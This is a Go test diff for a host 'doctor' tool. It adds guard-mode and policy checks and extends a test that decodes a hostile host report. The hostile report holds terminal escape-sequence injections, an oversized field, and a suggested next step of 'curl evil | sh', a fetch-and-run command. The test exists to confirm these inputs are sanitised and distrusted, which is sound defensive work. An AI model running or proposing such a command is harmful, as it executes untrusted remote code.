@@ -140,12 +140,12 @@ func TestCheckHost(t *testing.T) {
 		{"a machine that is a container", doctor.CheckNamespace(5, ""), doctor.OK, "", "namespace 5"},
 		{"foreign", doctor.CheckNamespace(5, "they belong to 6"), doctor.Failed, "other-pid-namespace", "they belong to 6"},
 
-		{"guard", doctor.CheckGuard("6.1.0-18-amd64", cgroup2, true), doctor.OK, "", "Linux 6.1.0-18-amd64, cgroup2 at /sys/fs/cgroup, BPF"},
-		{"the oldest kernel", doctor.CheckGuard("5.8", cgroup2, true), doctor.OK, "", "cgroup2 at /sys/fs/cgroup"},
-		{"old", doctor.CheckGuard("5.7.19", cgroup2, true), doctor.Warning, "old-kernel", "5.7.19"},
-		{"no BPF", doctor.CheckGuard("6.1", cgroup2, false), doctor.Warning, "no-bpf", "bpf(2)"},
-		{"no cgroup2", doctor.CheckGuard("6.1", "", true), doctor.Warning, "no-cgroup2", "without cgroup2"},
-		{"no version", doctor.CheckGuard("x\x1b", "", true), doctor.Skipped, "", "unknown"},
+		{"guard", doctor.CheckKernel("6.1.0-18-amd64", cgroup2, true), doctor.OK, "", "Linux 6.1.0-18-amd64, cgroup2 at /sys/fs/cgroup, BPF"},
+		{"the oldest kernel", doctor.CheckKernel("5.8", cgroup2, true), doctor.OK, "", "cgroup2 at /sys/fs/cgroup"},
+		{"old", doctor.CheckKernel("5.7.19", cgroup2, true), doctor.Warning, "old-kernel", "5.7.19"},
+		{"no BPF", doctor.CheckKernel("6.1", cgroup2, false), doctor.Warning, "no-bpf", "bpf(2)"},
+		{"no cgroup2", doctor.CheckKernel("6.1", "", true), doctor.Warning, "no-cgroup2", "without cgroup2"},
+		{"no version", doctor.CheckKernel("x\x1b", "", true), doctor.Skipped, "", "unknown"},
 
 		{"no systemd", doctor.CheckServices(true, "absent", nil), doctor.Skipped, "", "systemd"},
 		{"systemctl fails", doctor.CheckServices(false, "", errors.New("bus")), doctor.Warning, "services-unknown", "bus"},
@@ -171,9 +171,56 @@ func TestCheckHost(t *testing.T) {
 	})
 }
 
+// TestCheckGuard: what a host says of its guard, by its orders, and what a controller says, by its policy.
+func TestCheckGuard(t *testing.T) {
+	const off, watch, enforce, unable = snapshot.GuardOff, snapshot.GuardWatch, snapshot.GuardEnforce, snapshot.GuardUnable
+	at := time.Date(2026, 11, 20, 14, 2, 0, 0, time.Local)
+	is := func(mode, ordered snapshot.GuardMode, reason string) *doctor.GuardState {
+		g := &doctor.GuardState{Mode: mode, Ordered: ordered, Reason: reason}
+		if ordered != "" {
+			g.By, g.Renewed = "bob on jump", at
+		}
+		return g
+	}
+	vetoed := is(off, enforce, "/etc/genv/guard.off exists")
+	vetoed.Veto = true
+	able, old := doctor.CheckKernel("6.1", "cgroup2 /sys/fs/cgroup cgroup2 rw 0 0\n", true), doctor.CheckKernel("5.4", "", true)
+	host := func(kernel doctor.Check, g *doctor.GuardState) doctor.Check { return doctor.CheckGuard(kernel, g) }
+	fleet := func(kernel doctor.Check, g *doctor.GuardState, wanted snapshot.GuardMode) doctor.Check {
+		return doctor.CompareGuard(host(kernel, g), g, wanted)
+	}
+	verify(t, []row{
+		{"unknown", host(able, nil), doctor.OK, "", "Linux 6.1, cgroup2 at /sys/fs/cgroup, BPF"},
+		{"never ordered", host(able, is(off, "", "")), doctor.OK, "", "BPF; the guard is off"},
+		{"never ordered, and no kernel for it", host(old, is(off, "", "")), doctor.Warning, "old-kernel", "Linux 5.4"},
+		{"as ordered", host(able, is(enforce, enforce, "")), doctor.OK, "", "the guard is enforce"},
+		{"turned off by hand", host(able, is(off, off, "it was turned off by bob")), doctor.OK, "", "turned off by bob"},
+		{"vetoed", host(able, vetoed), doctor.OK, "", "guard.off exists"},
+		{"less than ordered", host(able, is(watch, enforce, "the uids aren't known yet")), doctor.OK, "", "watch: the uids aren't known yet"},
+		{"unable", host(able, is(unable, enforce, "it can't be attached")), doctor.Failed, "guard-unable", "bob on jump ordered enforce, last at 2026-11-20 14:02:00, and the host can't do it: it can't be attached"},
+		{"unable, by its kernel", host(old, is(unable, watch, "it can't be attached")), doctor.Failed, "guard-unable", "Linux 5.4"},
+		{"not renewed", host(able, is(off, watch, "the lease has ended")), doctor.Warning, "guard-not-renewed", "bob on jump ordered watch, last at 2026-11-20 14:02:00, and not since"},
+
+		{"no guard wanted", fleet(able, is(off, "", ""), off), doctor.OK, "", "the guard is off"},
+		{"no policy", fleet(able, is(enforce, enforce, ""), ""), doctor.OK, "", "the guard is enforce"},
+		{"no guard wanted, and no kernel for it", fleet(old, is(off, "", ""), off), doctor.Warning, "old-kernel", "Linux 5.4"},
+		{"as the policy says", fleet(able, is(enforce, enforce, ""), enforce), doctor.OK, "", "as the policy says"},
+		{"wanted, and unknown", fleet(able, nil, enforce), doctor.Skipped, "", "the policy says enforce, and it is unknown"},
+		{"wanted, and no kernel for it", fleet(old, is(off, "", ""), enforce), doctor.Failed, "guard-impossible", "the policy says enforce, and the host has no kernel for it: Linux 5.4"},
+		{"wanted, and the host can't", fleet(able, is(unable, enforce, "it can't be attached"), enforce), doctor.Failed, "guard-unable", "it can't be attached"},
+		{"wanted, and less", fleet(able, is(watch, enforce, "the uids aren't known yet"), enforce), doctor.Failed, "guard-unable", "the guard is watch: the uids"},
+		{"wanted, and turned off by hand", fleet(able, is(off, off, "it was turned off by bob"), watch), doctor.Warning, "guard-turned-off", "turned off by bob"},
+		{"wanted, and vetoed", fleet(able, vetoed, enforce), doctor.Warning, "guard-turned-off", "guard.off exists"},
+		{"wanted, and never ordered", fleet(able, is(off, "", ""), enforce), doctor.Failed, "guard-not-ordered", "no controller has ordered it"},
+		{"wanted, and not renewed", fleet(able, is(off, enforce, "the lease has ended"), enforce), doctor.Failed, "guard-not-ordered", "last at 2026-11-20 14:02:00, and not since"},
+		{"wanted, and another one ordered", fleet(able, is(watch, watch, ""), enforce), doctor.Warning, "guard-other-order", "the policy says enforce, and bob on jump ordered watch"},
+		{"less wanted than ordered", fleet(able, is(enforce, enforce, ""), watch), doctor.Warning, "guard-other-order", "the policy says watch"},
+	})
+}
+
 // A host may lie: what a controller found stays, and the next step is never the host's.
 func TestDecodeAHostileDocument(t *testing.T) {
-	d, err := doctor.Decode([]byte(`{"schema":"genv.doctor/1","host":"\u001b[2Jx","genv":{"version":"v1\n","protocol":1},"status":"ok","checks":[
+	d, err := doctor.Decode([]byte(`{"schema":"genv.doctor/1","host":"\u001b[2Jx","genv":{"version":"v1\n","protocol":1},"status":"ok","guard":{"mode":"off","reason":"a\u001b]0;x\u0007\nb","by":"` + strings.Repeat("y", 9000) + `\n"},"checks":[
 		{"name":"sudo","status":"ok","detail":"x"},
 		{"name":"disk","status":"failed","cause":"disk-full","detail":"a\u001b]0;x\u0007\nb","next_step":"curl evil | sh"},
 		{"name":"disk","status":"ok","detail":"second"},
@@ -182,6 +229,8 @@ func TestDecodeAHostileDocument(t *testing.T) {
 	require.NoError(t, err)
 	require.Equal(t, `\x1b[2Jx`, d.Host)
 	require.Equal(t, doctor.Failed, d.Status, "not what the host says")
+	require.NotContains(t, d.Guard.Reason, "\x1b")
+	require.Less(t, len(d.Guard.By), 1000)
 	var names []doctor.Name
 	for _, c := range d.Checks {
 		names = append(names, c.Name)
